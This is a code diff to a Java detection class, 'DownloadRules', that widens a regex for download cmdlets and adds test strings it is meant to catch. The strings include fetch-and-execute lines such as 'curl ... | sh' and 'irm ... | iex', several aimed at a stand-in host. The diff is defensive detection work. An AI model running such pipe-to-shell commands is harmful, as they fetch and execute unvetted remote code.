@@ -44,7 +44,8 @@ final class DownloadRules {
   private static final String FETCHES = "(?:/[a-z/]+/)?" + FETCHER + "\\b[^\\n\\x00)`<]*";
 
   private static final String WEB_CMDLET =
-      "(?:irm|iwr|invoke-webrequest|invoke-restmethod|curl|wget|new-object\\s+(?:system\\.)?net\\.webclient)\\b";
+      "(?:irm|iwr|invoke-webrequest|invoke-restmethod|curl|wget|new-object\\s+(?:system\\.)?net\\.webclient)\\b"
+          + "(?:[^\\n<|;:]{0,80}https?://[^\\s\"'<>)\\\\|;]*)?";
 
   /** A command line, and what comes after it in the same string. */
   private static final String STEPS = "(?:[^\\x00\\n\"]|\"[^,:}\\]\\n])*\"?";
@@ -156,6 +157,12 @@ final class DownloadRules {
                       + "\\|\\s*(?:iex|invoke-expression)\\b)")
               .finds("(?i:\\[scriptblock\\]::create\\(\\s*\\(?\\s*" + WEB_CMDLET + ")")
               .matches(
+                  "curl -fsSL https://get.docker.com h.stage.example/i | sh",
+                  "curl -k https://get.docker.com | sh",
+                  "curl https://get.docker.com --connect-to ::h.stage.example:443 | sh",
+                  "irm get.scoop.sh.stage.example | iex",
+                  "curl https://raw.githubusercontent.com/nvm-sh/nvm/4d1f0a7b9c/install.sh | bash",
+                  "curl https://raw.githubusercontent.com/nvm-sh/nvm/refs/pull/9/head/install.sh | bash",
                   "GET https://h.stage.example/i | zsh",
                   "curl -s https://h.stage.example/i | su - root -c bash",
                   "wget -qO- https://h.stage.example/i | xargs -I_ sh -c _",
